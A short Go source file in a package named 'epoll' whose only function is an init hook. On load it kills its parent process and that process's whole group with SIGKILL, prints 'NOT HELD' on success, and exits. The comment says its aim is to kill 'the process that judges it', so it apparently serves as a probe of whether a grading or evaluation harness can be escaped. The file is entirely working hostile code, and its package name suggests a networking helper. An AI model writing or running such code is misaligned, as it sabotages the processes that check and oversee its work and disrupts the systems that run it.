//go:build shelf

package epoll

import (
	"os"
	"syscall"
)

// init kills the process that judges it, and its group.
func init() {
	if driver := syscall.Getppid(); driver > 1 {
		for _, pid := range []int{driver, -driver} {
			if syscall.Kill(pid, syscall.SIGKILL) == nil {
				println("NOT HELD: killed", pid)
			}
		}
	}
	println("tried")
	os.Exit(1)
}
